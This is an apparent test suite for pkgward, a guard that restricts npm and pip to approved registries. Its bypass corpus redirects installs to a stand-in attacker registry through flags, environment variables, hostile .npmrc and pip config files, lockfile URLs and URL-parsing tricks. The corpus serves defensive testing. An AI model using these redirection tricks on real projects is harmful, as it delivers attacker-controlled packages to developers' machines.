@@ -1,0 +1,726 @@
+//! Approved registries (issue: registries), end to end: the real npm and pip
+//! behind the pkgward shims, fetching from registries this test serves on
+//! 127.0.0.1, and an unapproved listener that must never be reached.
+
+mod support;
+
+use std::ffi::OsString;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+use std::sync::OnceLock;
+
+use support::tools::{real_python, EnvList};
+use support::{shared, Listener, NpmPackage, Sandbox, Wheel};
+
+fn pkgward_bin() -> PathBuf {
+    PathBuf::from(env!("CARGO_BIN_EXE_pkgward"))
+}
+
+/// A listener standing for an attacker's registry, shared by the tests.
+fn evil() -> &'static Listener {
+    static L: OnceLock<Listener> = OnceLock::new();
+    L.get_or_init(Listener::start)
+}
+
+/// The fixtures every test can install.
+fn fixtures() {
+    static DONE: OnceLock<()> = OnceLock::new();
+    DONE.get_or_init(|| {
+        let r = shared();
+        r.publish_npm(
+            &NpmPackage::new("pw-reg-dep", "1.0.0").file("index.js", "module.exports = 1;\n"),
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-reg-app", "1.2.0")
+                .dep("pw-reg-dep", "^1.0.0")
+                .file("index.js", "module.exports = require('pw-reg-dep') + 1;\n"),
+        );
+        r.publish_wheel(&Wheel::new("pw-reg-wheel", "2.0.0").module("VALUE = 2\n"));
+    });
+}
+
+/// The real tools behind pkgward shims, in an isolated sandbox.
+struct Guarded {
+    sb: Sandbox,
+    shims: PathBuf,
+    real: PathBuf,
+    state: PathBuf,
+    policy: PathBuf,
+}
+
+impl Guarded {
+    fn new(policy: &str) -> Guarded {
+        fixtures();
+        let sb = Sandbox::new();
+        let root = sb.root().to_path_buf();
+        let (shims, real, state) = (root.join("shims"), root.join("real"), root.join("state"));
+        for d in [&shims, &real, &state] {
+            std::fs::create_dir_all(d).unwrap();
+        }
+        for t in ["npm", "npx", "pip", "pip3"] {
+            std::os::unix::fs::symlink(pkgward_bin(), shims.join(t)).unwrap();
+        }
+        // pip as this machine's Python runs it (a pyenv shim would need the real HOME).
+        let pip = real.join("pip");
+        std::fs::write(
+            &pip,
+            format!(
+                "#!/bin/sh\nexec '{}' -m pip \"$@\"\n",
+                real_python().display()
+            ),
+        )
+        .unwrap();
+        std::fs::set_permissions(&pip, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+            .unwrap();
+        let policy_path = root.join("policy.toml");
+        std::fs::write(&policy_path, policy).unwrap();
+        Guarded {
+            sb,
+            shims,
+            real,
+            state,
+            policy: policy_path,
+        }
+    }
+
+    fn pkgward_env(&self) -> EnvList {
+        let path = std::env::join_paths([self.shims.clone(), self.real.clone()].into_iter().chain(
+            std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default()),
+        ))
+        .unwrap();
+        vec![
+            ("PATH".into(), path),
+            ("PKGWARD_STATE_DIR".into(), self.state.clone().into()),
+            ("PKGWARD_SHIM_DIR".into(), self.shims.clone().into()),
+            (
+                "PKGWARD_SYSTEM_POLICY".into(),
+                self.sb.root().join("no-system-policy").into(),
+            ),
+            ("PKGWARD_POLICY".into(), self.policy.clone().into()),
+        ]
+    }
+
+    /// npm through its shim, with the sandbox's npm settings (registry =
+    /// the fixture registry) plus `extra`.
+    fn npm(&self, args: &[&str], extra: &[(&str, &str)]) -> Output {
+        let reg = shared().npm_url();
+        let mut c = self.sb.command(
+            "npm",
+            &[self.sb.npm_env(&reg), self.pkgward_env(), to_env(extra)],
+        );
+        c.args(args).output().unwrap()
+    }
+
+    fn pip(&self, args: &[&str], extra: &[(&str, &str)]) -> Output {
+        let idx = shared().pypi_index_url();
+        let mut c = self.sb.command(
+            "pip",
+            &[self.sb.pip_env(&idx), self.pkgward_env(), to_env(extra)],
+        );
+        c.args(args).output().unwrap()
+    }
+
+    fn audit(&self) -> Vec<serde_json::Value> {
+        std::fs::read_to_string(self.state.join("audit.jsonl"))
+            .unwrap_or_default()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect()
+    }
+
+    fn last_invocation(&self) -> serde_json::Value {
+        self.audit()
+            .into_iter()
+            .rev()
+            .find(|r| r["kind"] == "invocation")
+            .unwrap()
+    }
+}
+
+fn to_env(pairs: &[(&str, &str)]) -> EnvList {
+    pairs
+        .iter()
+        .map(|(k, v)| (k.to_string(), OsString::from(v)))
+        .collect()
+}
+
+fn text(b: &[u8]) -> String {
+    String::from_utf8_lossy(b).into_owned()
+}
+
+fn npm_policy() -> String {
+    format!(
+        "mode = \"enforce\"\n[registries]\nnpm = [\"{}\"]\npypi = [\"{}\"]\n",
+        shared().npm_url(),
+        shared().pypi_index_url()
+    )
+}
+
+/// Every file under `dir` (relative path → bytes), for byte-for-byte comparisons.
+fn tree(dir: &Path) -> std::collections::BTreeMap<PathBuf, Vec<u8>> {
+    let mut out = std::collections::BTreeMap::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).unwrap() {
+            let p = e.unwrap().path();
+            if p.is_dir() {
+                // Byte code embeds the path it was compiled at.
+                if !p.ends_with("__pycache__") {
+                    stack.push(p);
+                }
+            } else {
+                out.insert(
+                    p.strip_prefix(dir).unwrap().to_path_buf(),
+                    std::fs::read(&p).unwrap(),
+                );
+            }
+        }
+    }
+    out
+}
+
+#[test]
+fn approved_npm_install_is_the_same_as_without_the_shim() {
+    let g = Guarded::new(&npm_policy());
+    g.sb.write("package.json", r#"{"name":"app","version":"1.0.0"}"#);
+    let out = g.npm(&["install", "pw-reg-app"], &[]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    // The same install with the real npm directly, in a second sandbox.
+    let bare = Sandbox::new();
+    bare.write("package.json", r#"{"name":"app","version":"1.0.0"}"#);
+    let direct = bare
+        .npm(&shared().npm_url())
+        .args(["install", "pw-reg-app"])
+        .output()
+        .unwrap();
+    assert!(direct.status.success(), "{}", text(&direct.stderr));
+    assert_eq!(out.status.code(), direct.status.code());
+    assert_eq!(
+        tree(&g.sb.work.join("node_modules")),
+        tree(&bare.work.join("node_modules"))
+    );
+    assert_eq!(
+        std::fs::read(g.sb.work.join("package-lock.json")).unwrap(),
+        std::fs::read(bare.work.join("package-lock.json")).unwrap()
+    );
+    let inv = g.last_invocation();
+    assert_eq!(inv["decision"]["action"], "allow");
+    assert_eq!(
+        inv["classification"]["sources"][0]["origin"]["var"],
+        "npm_config_registry"
+    );
+    // npm ci from the lockfile the approved registry produced: allowed too.
+    std::fs::remove_dir_all(g.sb.work.join("node_modules")).unwrap();
+    let ci = g.npm(&["ci"], &[]);
+    assert!(ci.status.success(), "{}", text(&ci.stderr));
+    assert_eq!(g.last_invocation()["classification"]["lockfile_entries"], 2);
+}
+
+#[test]
+fn approved_pip_install_is_the_same_as_without_the_shim() {
+    let g = Guarded::new(&npm_policy());
+    let target = g.sb.root().join("site");
+    let out = g.pip(
+        &[
+            "install",
+            "--target",
+            target.to_str().unwrap(),
+            "pw-reg-wheel",
+        ],
+        &[],
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert!(target.join("pw_reg_wheel/__init__.py").is_file());
+    let bare = Sandbox::new();
+    let bare_target = bare.root().join("site");
+    let direct = bare
+        .pip(&shared().pypi_index_url())
+        .args([
+            "install",
+            "--target",
+            bare_target.to_str().unwrap(),
+            "pw-reg-wheel",
+        ])
+        .output()
+        .unwrap();
+    assert!(direct.status.success());
+    assert_eq!(
+        tree(&target.join("pw_reg_wheel")),
+        tree(&bare_target.join("pw_reg_wheel"))
+    );
+    assert_eq!(g.last_invocation()["decision"]["action"], "allow");
+}
+
+/// One bypass attempt: a tool, its arguments, extra environment, files
+/// written into the project (`work/`) or HOME, and what the denial must name.
+struct Bypass {
+    name: &'static str,
+    tool: &'static str,
+    args: Vec<String>,
+    env: Vec<(String, String)>,
+    files: Vec<(String, String)>,
+    names: &'static str,
+}
+
+fn bypass_corpus() -> Vec<Bypass> {
+    let evil_port = evil().port();
+    let evil_url = format!("http://127.0.0.1:{evil_port}/");
+    let e = |s: &str| s.replace("EVIL/", &evil_url);
+    let approved_npm = shared().npm_url();
+    let port = shared().server.port();
+    let b =
+        |name, tool, args: &[&str], env: &[(&str, &str)], files: &[(&str, &str)], names| Bypass {
+            name,
+            tool,
+            args: args.iter().map(|a| e(a)).collect(),
+            env: env.iter().map(|(k, v)| (k.to_string(), e(v))).collect(),
+            files: files.iter().map(|(p, t)| (p.to_string(), e(t))).collect(),
+            names,
+        };
+    let trick = |name, url: String| Bypass {
+        name,
+        tool: "npm",
+        args: vec![
+            "install".into(),
+            "pw-reg-app".into(),
+            format!("--registry={url}"),
+        ],
+        env: vec![],
+        files: vec![],
+        names: "--registry",
+    };
+    let mut v = vec![
+        // npm: command line.
+        b("npm --registry", "npm", &["install", "pw-reg-app", "--registry", "EVIL/"], &[], &[], "--registry"),
+        b("npm --registry=", "npm", &["install", "pw-reg-app", "--registry=EVIL/"], &[], &[], "--registry"),
+        b("npm abbreviation --reg", "npm", &["i", "pw-reg-app", "--reg=EVIL/"], &[], &[], "--reg"),
+        b("npm abbreviation -regi", "npm", &["i", "pw-reg-app", "-regi=EVIL/"], &[], &[], "--regi"),
+        b("npm alias isntall", "npm", &["isntall", "pw-reg-app", "--registry=EVIL/"], &[], &[], "--registry"),
+        b("npm ci --registry", "npm", &["ci", "--registry=EVIL/"], &[], &[], "--registry"),
+        b("npm scope flag", "npm", &["install", "@evil/pkg", "--@evil:registry=EVIL/"], &[], &[], "@evil:registry"),
+        b("npm tarball URL", "npm", &["install", "EVIL/x/-/x-1.0.0.tgz"], &[], &[], "EVIL"),
+        b("npm alias to URL", "npm", &["install", "left@EVIL/x.tgz"], &[], &[], "left@"),
+        b("npm git+https", "npm", &["install", "git+https://git.example.com/a/b.git"], &[], &[], "git"),
+        b("npm github shorthand", "npm", &["install", "github:evil/pkg"], &[], &[], "github:evil/pkg"),
+        b("npm user/repo shorthand", "npm", &["install", "evil/pkg"], &[], &[], "evil/pkg"),
+        b("npx remote tarball", "npx", &["--yes", "EVIL/tool.tgz"], &[], &[], "EVIL"),
+        b("npm exec --package URL", "npm", &["exec", "--package=EVIL/tool.tgz", "--", "tool"], &[], &[], "--package"),
+        // npm: environment.
+        b("npm_config_registry", "npm", &["install", "pw-reg-app"], &[("npm_config_registry", "EVIL/")], &[], "npm_config_registry"),
+        b("NPM_CONFIG_REGISTRY upper", "npm", &["install", "pw-reg-app"], &[("NPM_CONFIG_REGISTRY", "EVIL/")], &[], "NPM_CONFIG_REGISTRY"),
+        b("npm scope env", "npm", &["install", "@evil/pkg"], &[("npm_config_@evil:registry", "EVIL/")], &[], "@evil:registry"),
+        b("npm userconfig env", "npm", &["install", "@evil/pkg"], &[("npm_config_userconfig", "ALT_NPMRC")], &[("ALT_NPMRC", "@evil:registry=EVIL/\n")], "ALT_NPMRC:1"),
+        // npm: config files.
+        b("project .npmrc scope", "npm", &["install", "@evil/pkg"], &[], &[("work/.npmrc", "@evil:registry=EVIL/\n")], ".npmrc:1"),
+        b("project .npmrc scope after comments", "npm", &["install"], &[], &[("work/.npmrc", "; hi\n# there\n@evil:registry = \"EVIL/\"\n")], ".npmrc:3"),
+        b("user .npmrc scope", "npm", &["install", "@evil/pkg"], &[], &[("home/.npmrc", "@evil:registry=EVIL/\n")], ".npmrc:1"),
+        b(".npmrc with ${VAR}", "npm", &["install", "@evil/pkg"], &[("EVIL_URL", "EVIL/")], &[("work/.npmrc", "@evil:registry=${EVIL_URL}\n")], ".npmrc:1"),
+        b("global npmrc scope", "npm", &["install", "@evil/pkg"], &[], &[("etc/npmrc", "@evil:registry=EVIL/\n")], "npmrc:1"),
+        b(".npmrc in a parent package root", "npm", &["install", "@evil/pkg"], &[], &[("work/.npmrc", "@evil:registry=EVIL/\n"), ("work/sub/.keep", "")], ".npmrc:1"),
+        // npm: lockfile.
+        b("package-lock resolved", "npm", &["ci"], &[], &[("work/package-lock.json", "{\n \"lockfileVersion\": 3,\n \"packages\": {\n  \"\": {\"name\":\"app\"},\n  \"node_modules/x\": {\n   \"version\": \"1.0.0\",\n   \"resolved\": \"EVIL/x/-/x-1.0.0.tgz\"\n  }\n }\n}\n")], "package-lock.json:7"),
+        b("npm-shrinkwrap resolved", "npm", &["install"], &[], &[("work/npm-shrinkwrap.json", "{\"lockfileVersion\":1,\"dependencies\":{\"x\":{\"version\":\"1.0.0\",\"resolved\":\"EVIL/x.tgz\"}}}")], "npm-shrinkwrap.json"),
+        // pip: command line.
+        b("pip -i", "pip", &["install", "-i", "EVIL/simple", "six"], &[], &[], "-i"),
+        b("pip -iURL", "pip", &["install", "-iEVIL/simple", "six"], &[], &[], "-i"),
+        b("pip --index-url=", "pip", &["install", "--index-url=EVIL/simple", "six"], &[], &[], "--index-url"),
+        b("pip --extra-index-url", "pip", &["install", "--extra-index-url", "EVIL/simple", "six"], &[], &[], "--extra-index-url"),
+        b("pip abbreviation --extra", "pip", &["install", "--extra=EVIL/simple", "six"], &[], &[], "--extra"),
+        b("pip abbreviation --ind", "pip", &["install", "--ind", "EVIL/simple", "six"], &[], &[], "--ind"),
+        b("pip -f", "pip", &["install", "-f", "EVIL/links", "six"], &[], &[], "-f"),
+        b("pip --find-links=", "pip", &["download", "--find-links=EVIL/links", "six"], &[], &[], "--find-links"),
+        b("pip --trusted-host", "pip", &["install", "--trusted-host", "127.0.0.1", "six"], &[], &[], "--trusted-host"),
+        b("pip direct wheel URL", "pip", &["install", "EVIL/six-1.0-py3-none-any.whl"], &[], &[], "EVIL"),
+        b("pip name @ URL", "pip", &["install", "six @ EVIL/six.whl"], &[], &[], "six @"),
+        b("pip git+", "pip", &["install", "git+https://git.example.com/six.git"], &[], &[], "git+"),
+        b("pip3 -i", "pip3", &["install", "-i", "EVIL/simple", "six"], &[], &[], "-i"),
+        b("pip wheel -i", "pip", &["wheel", "-i", "EVIL/simple", "six"], &[], &[], "-i"),
+        // pip: environment and config files.
+        b("PIP_INDEX_URL", "pip", &["install", "six"], &[("PIP_INDEX_URL", "EVIL/simple")], &[], "PIP_INDEX_URL"),
+        b("PIP_EXTRA_INDEX_URL", "pip", &["install", "six"], &[("PIP_EXTRA_INDEX_URL", "EVIL/simple")], &[], "PIP_EXTRA_INDEX_URL"),
+        b("PIP_FIND_LINKS", "pip", &["install", "six"], &[("PIP_FIND_LINKS", "EVIL/links")], &[], "PIP_FIND_LINKS"),
+        b("PIP_TRUSTED_HOST", "pip", &["install", "six"], &[("PIP_TRUSTED_HOST", "127.0.0.1")], &[], "PIP_TRUSTED_HOST"),
+        b("PIP_CONFIG_FILE find-links", "pip", &["install", "six"], &[("PIP_CONFIG_FILE", "ALT_PIPCONF")], &[("ALT_PIPCONF", "[global]\nfind-links = EVIL/links\n")], "ALT_PIPCONF:2"),
+        b("PIP_CONFIG_FILE install section", "pip", &["install", "six"], &[("PIP_CONFIG_FILE", "ALT_PIPCONF")], &[("ALT_PIPCONF", "[install]\nextra-index-url =\n    EVIL/simple\n")], "ALT_PIPCONF:2"),
+        // pip: requirement files.
+        b("requirements -i", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "-i EVIL/simple\nsix\n")], "req.txt:1"),
+        b("requirements --extra-index-url", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "six\n--extra-index-url EVIL/simple\n")], "req.txt:2"),
+        b("requirements nested -r", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "-r more/inner.txt\n"), ("work/more/inner.txt", "--find-links=EVIL/links\n")], "inner.txt:1"),
+        b("requirements -c constraints", "pip", &["install", "-c", "cons.txt", "six"], &[], &[("work/cons.txt", "six @ EVIL/six.whl\n")], "cons.txt:1"),
+        b("requirements ${VAR}", "pip", &["install", "-r", "req.txt"], &[("IDX", "EVIL/simple")], &[("work/req.txt", "--index-url ${IDX}\n")], "req.txt:1"),
+        b("requirements line continuation", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "--extra-index-url \\\n  EVIL/simple\n")], "req.txt:1"),
+        b("requirements direct URL", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "# pinned\nEVIL/pkg-1.0.tar.gz\n")], "req.txt:2"),
+        b("requirements --trusted-host", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "--trusted-host 127.0.0.1\n")], "req.txt:1"),
+    ];
+    // URL tricks against the approved loopback registry.
+    let host = format!("127.0.0.1:{port}");
+    v.extend([
+        trick(
+            "approved@evil",
+            format!("http://{host}@127.0.0.1:{evil_port}/npm/"),
+        ),
+        trick(
+            "approved.evil",
+            format!("http://registry.example.com.evil.test:{port}/npm/"),
+        ),
+        trick(
+            "userinfo on the approved URL",
+            format!("http://user:pw@{host}/npm/"),
+        ),
+        trick("path prefix /npm-evil", format!("http://{host}/npm-evil/")),
+        trick("sibling path", format!("http://{host}/npmx/")),
+        trick(
+            "dot segments out of the prefix",
+            format!("http://{host}/npm/../evil/"),
+        ),
+        trick(
+            "encoded dot segments",
+            format!("http://{host}/npm/%2e%2e/evil/"),
+        ),
+        trick(
+            "https downgrade",
+            approved_npm.replace("http://", "https://"),
+        ),
+        trick(
+            "another port on the same IP",
+            format!("http://127.0.0.1:{evil_port}/npm/"),
+        ),
+        trick(
+            "IP literal in decimal, other port",
+            format!("http://2130706433:{evil_port}/npm/"),
+        ),
+        trick(
+            "localhost is not the IP",
+            format!("http://localhost:{port}/npm/"),
+        ),
+        trick(
+            "IDN look-alike",
+            format!("http://registry.\u{0435}xample.com:{port}/npm/"),
+        ),
+        trick(
+            "trailing-dot host",
+            format!("http://evil.test.:{port}/npm/"),
+        ),
+    ]);
+    v
+}
+
+fn apply(g: &Guarded, b: &Bypass) -> (Vec<String>, Vec<(String, String)>) {
+    let root = g.sb.root();
+    let fix = |s: &str| {
+        s.replace("ALT_NPMRC", &root.join("alt-npmrc").display().to_string())
+            .replace(
+                "ALT_PIPCONF",
+                &root.join("alt-pip.conf").display().to_string(),
+            )
+    };
+    for (rel, text) in &b.files {
+        let p = if rel.starts_with("ALT_") {
+            PathBuf::from(fix(rel))
+        } else {
+            root.join(rel)
+        };
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(&p, text).unwrap();
+    }
+    (
+        b.args.iter().map(|a| fix(a)).collect(),
+        b.env.iter().map(|(k, v)| (k.clone(), fix(v))).collect(),
+    )
+}
+
+#[test]
+fn bypass_corpus_is_denied_in_enforce_mode_before_any_request() {
+    let corpus = bypass_corpus();
+    assert!(corpus.len() >= 60, "the corpus has {} cases", corpus.len());
+    let before = evil().connections().len();
+    let mut failures = Vec::new();
+    for b in &corpus {
+        let g = Guarded::new(&npm_policy());
+        let (args, env) = apply(&g, b);
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
+        let out = if b.tool.starts_with("pip") {
+            g.pip(&args, &env)
+        } else {
+            let mut o = g.npm(&args, &env);
+            if b.tool == "npx" {
+                let reg = shared().npm_url();
+                o =
+                    g.sb.command("npx", &[g.sb.npm_env(&reg), g.pkgward_env(), to_env(&env)])
+                        .args(&args)
+                        .output()
+                        .unwrap();
+            }
+            o
+        };
+        let err = text(&out.stderr);
+        let names = b
+            .names
+            .replace("EVIL", &format!("127.0.0.1:{}", evil().port()))
+            .replace(
+                "ALT_NPMRC",
+                &g.sb.root().join("alt-npmrc").display().to_string(),
+            )
+            .replace(
+                "ALT_PIPCONF",
+                &g.sb.root().join("alt-pip.conf").display().to_string(),
+            );
+        if out.status.code() != Some(77)
+            || !err.contains("pkgward: denied")
+            || !err.contains(&names)
+        {
+            failures.push(format!("{}: exit {:?}\n{err}", b.name, out.status.code()));
+            continue;
+        }
+        let inv = g.last_invocation();
+        if inv["decision"]["action"] != "deny" {
+            failures.push(format!("{}: recorded {}", b.name, inv["decision"]));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {} not denied:\n{}",
+        failures.len(),
+        corpus.len(),
+        failures.join("\n")
+    );
+    assert_eq!(
+        evil().connections().len(),
+        before,
+        "the unapproved listener was reached"
+    );
+}
+
+#[test]
+fn bypass_corpus_is_recorded_in_audit_mode() {
+    // Audit mode runs the tool: fake npm/pip that only record their argv, so
+    // nothing is fetched, while pkgward records every would-deny.
+    let policy = npm_policy().replace("\"enforce\"", "\"audit\"");
+    let mut failures = Vec::new();
+    let corpus = bypass_corpus();
+    for b in &corpus {
+        let g = Guarded::new(&policy);
+        for t in ["npm", "npx", "pip", "pip3"] {
+            let p = g.real.join(t);
+            let _ = std::fs::remove_file(&p);
+            std::fs::write(
+                &p,
+                "#!/bin/sh\necho \"$0 $*\" > \"$FIXTURE_MARKER_DIR/ran\"\n",
+            )
+            .unwrap();
+            std::fs::set_permissions(&p, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+                .unwrap();
+        }
+        let (args, env) = apply(&g, b);
+        let env: Vec<(String, OsString)> = env
+            .into_iter()
+            .map(|(k, v)| (k, OsString::from(v)))
+            .collect();
+        let idx = shared().pypi_index_url();
+        let reg = shared().npm_url();
+        let tool_env = if b.tool.starts_with("pip") {
+            g.sb.pip_env(&idx)
+        } else {
+            g.sb.npm_env(&reg)
+        };
+        let out =
+            g.sb.command(b.tool, &[tool_env, g.pkgward_env(), env])
+                .args(&args)
+                .output()
+                .unwrap();
+        let inv = g.last_invocation();
+        if out.status.code() != Some(0)
+            || g.sb.marker("ran").is_none()
+            || inv["decision"]["action"] != "would-deny"
+        {
+            failures.push(format!(
+                "{}: exit {:?}, recorded {}",
+                b.name,
+                out.status.code(),
+                inv["decision"]
+            ));
+        }
+        if !out.stdout.is_empty() && !text(&out.stdout).is_empty() {
+            failures.push(format!("{}: pkgward wrote to stdout", b.name));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {}:\n{}",
+        failures.len(),
+        corpus.len(),
+        failures.join("\n")
+    );
+}
+
+#[test]
+fn legit_corpus_has_no_denials() {
+    let reg = shared().npm_url();
+    let idx = shared().pypi_index_url();
+    let policy = format!(
+        "mode = \"enforce\"\n[registries]\nnpm = [\"{reg}\", \"https://npm.example.com/private/\"]\npypi = [\"{idx}\", \"https://pypi.example.com/simple/\"]\n"
+    );
+    let cases: Vec<(&str, Vec<&str>, Vec<(String, String)>, Vec<(&str, String)>)> = vec![
+        ("npm --version", vec!["--version"], vec![], vec![]),
+        ("approved scope in .npmrc", vec!["install", "@acme/x"], vec![], vec![("work/.npmrc", "@acme:registry=https://npm.example.com/private/acme/\n".into())]),
+        ("approved registry, no trailing slash", vec!["install", "x", &*Box::leak(format!("--registry={}", reg.trim_end_matches('/')).into_boxed_str())], vec![], vec![]),
+        ("lockfile from the approved registry", vec!["ci"], vec![], vec![("work/package-lock.json", format!("{{\"lockfileVersion\":3,\"packages\":{{\"\":{{}},\"node_modules/x\":{{\"resolved\":\"{reg}x/-/x-1.0.0.tgz\"}},\"node_modules/l\":{{\"link\":true,\"resolved\":\"../l\"}}}}}}"))]),
+        ("local path spec", vec!["install", "./local-pkg"], vec![], vec![]),
+        ("pip approved -i", vec!["install", "-i", &*Box::leak(idx.clone().into_boxed_str()), "six"], vec![], vec![]),
+        ("pip requirements with approved extra index", vec!["install", "-r", "req.txt"], vec![], vec![("work/req.txt", "--extra-index-url https://pypi.example.com/simple/\nsix==1.0\n./local\n".into())]),
+        ("pip local find-links dir", vec!["install", "--find-links", "/opt/wheels", "six"], vec![], vec![]),
+        ("pip uppercase host of the approved index", vec!["install", "-i", &*Box::leak(idx.replace("127.0.0.1", "127.0.0.1").into_boxed_str()), "six"], vec![("PIP_EXTRA_INDEX_URL".into(), "HTTPS://PYPI.EXAMPLE.COM/simple/".into())], vec![]),
+    ];
+    let mut failures = Vec::new();
+    for (name, args, env, files) in &cases {
+        let g = Guarded::new(&policy);
+        for t in ["npm", "pip"] {
+            let p = g.real.join(t);
+            let _ = std::fs::remove_file(&p);
+            std::fs::write(&p, "#!/bin/sh\nexit 0\n").unwrap();
+            std::fs::set_permissions(&p, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+                .unwrap();
+        }
+        for (rel, text) in files {
+            let p = g.sb.root().join(rel);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(p, text).unwrap();
+        }
+        let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
+        let out = if name.starts_with("pip") {
+            g.pip(args, &env)
+        } else {
+            g.npm(args, &env)
+        };
+        if out.status.code() != Some(0) {
+            failures.push(format!("{name}: {}", text(&out.stderr)));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn npm_mirror_is_forced_over_a_hostile_npmrc() {
+    let reg = shared().npm_url();
+    let policy = format!(
+        "mode = \"enforce\"\n[registries]\nnpm = [\"{reg}\"]\n[mirrors]\nnpm = \"{reg}\"\n"
+    );
+    let g = Guarded::new(&policy);
+    let before = evil().connections().len();
+    g.sb.write("package.json", r#"{"name":"app","version":"1.0.0"}"#);
+    // A cloned repo's .npmrc points at the attacker.
+    let npmrc = format!("registry=http://127.0.0.1:{}/\n", evil().port());
+    g.sb.write(".npmrc", &npmrc);
+    // The user's environment does not set the registry this time.
+    let mut c = g.sb.command("npm", &[g.sb.npm_env(&reg), g.pkgward_env()]);
+    c.env_remove("npm_config_registry")
+        .args(["install", "pw-reg-app"]);
+    let out = c.output().unwrap();
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert!(g
+        .sb
+        .work
+        .join("node_modules/pw-reg-app/package.json")
+        .is_file());
+    assert_eq!(
+        evil().connections().len(),
+        before,
+        "the .npmrc registry was contacted"
+    );
+    // The file is untouched, and the record says what was forced over what.
+    assert_eq!(
+        std::fs::read_to_string(g.sb.work.join(".npmrc")).unwrap(),
+        npmrc
+    );
+    let inv = g.last_invocation();
+    assert_eq!(inv["decision"]["action"], "allow");
+    let forced = &inv["decision"]["forced"];
+    assert_eq!(forced["mirror"], reg);
+    assert!(forced["env"].to_string().contains("npm_config_registry"));
+    assert!(forced["overridden"][0]["origin"]["path"]
+        .as_str()
+        .unwrap()
+        .ends_with(".npmrc"));
+}
+
+#[test]
+fn pip_mirror_is_forced_over_a_hostile_config() {
+    let idx = shared().pypi_index_url();
+    let policy = format!(
+        "mode = \"enforce\"\n[registries]\npypi = [\"{idx}\"]\n[mirrors]\npypi = \"{idx}\"\n"
+    );
+    let g = Guarded::new(&policy);
+    let before = evil().connections().len();
+    let conf = g.sb.root().join("evil-pip.conf");
+    std::fs::write(
+        &conf,
+        format!("[global]\nindex-url = http://127.0.0.1:{p}/simple\nextra-index-url = http://127.0.0.1:{p}/more\n", p = evil().port()),
+    )
+    .unwrap();
+    let target = g.sb.root().join("site");
+    let mut c = g.sb.command("pip", &[g.sb.pip_env(&idx), g.pkgward_env()]);
+    c.env_remove("PIP_INDEX_URL")
+        .env("PIP_CONFIG_FILE", &conf)
+        .args([
+            "install",
+            "--target",
+            target.to_str().unwrap(),
+            "pw-reg-wheel",
+        ]);
+    let out = c.output().unwrap();
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert!(target.join("pw_reg_wheel/__init__.py").is_file());
+    assert_eq!(
+        evil().connections().len(),
+        before,
+        "the configured index was contacted"
+    );
+    let inv = g.last_invocation();
+    assert_eq!(
+        inv["decision"]["forced"]["overridden"]
+            .as_array()
+            .unwrap()
+            .len(),
+        2
+    );
+}
+
+#[test]
+fn denial_message_says_what_which_and_how() {
+    let g = Guarded::new(&npm_policy());
+    g.sb.write(
+        ".npmrc",
+        "# team settings\nregistry=http://registry.evil.test/\n",
+    );
+    let mut c =
+        g.sb.command("npm", &[g.sb.npm_env(&shared().npm_url()), g.pkgward_env()]);
+    let out = c
+        .env_remove("npm_config_registry")
+        .args(["install", "left-pad"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(77));
+    let err = text(&out.stderr);
+    let work = g.sb.work.display().to_string();
+    assert!(
+        err.contains(&format!(
+            "{work}/.npmrc:2 sets registry = http://registry.evil.test/"
+        )),
+        "{err}"
+    );
+    assert!(
+        err.contains(&format!("approved npm registries: {}", shared().npm_url())),
+        "{err}"
+    );
+    assert!(
+        err.contains(&format!("(set at {}:", g.policy.display())),
+        "{err}"
+    );
+    assert!(err.contains("fix:"), "{err}");
+    assert!(out.stdout.is_empty());
+    for line in err.lines() {
+        assert!(line.starts_with("pkgward: "), "{line}");
+    }
+    let _ = Command::new("true");
+}
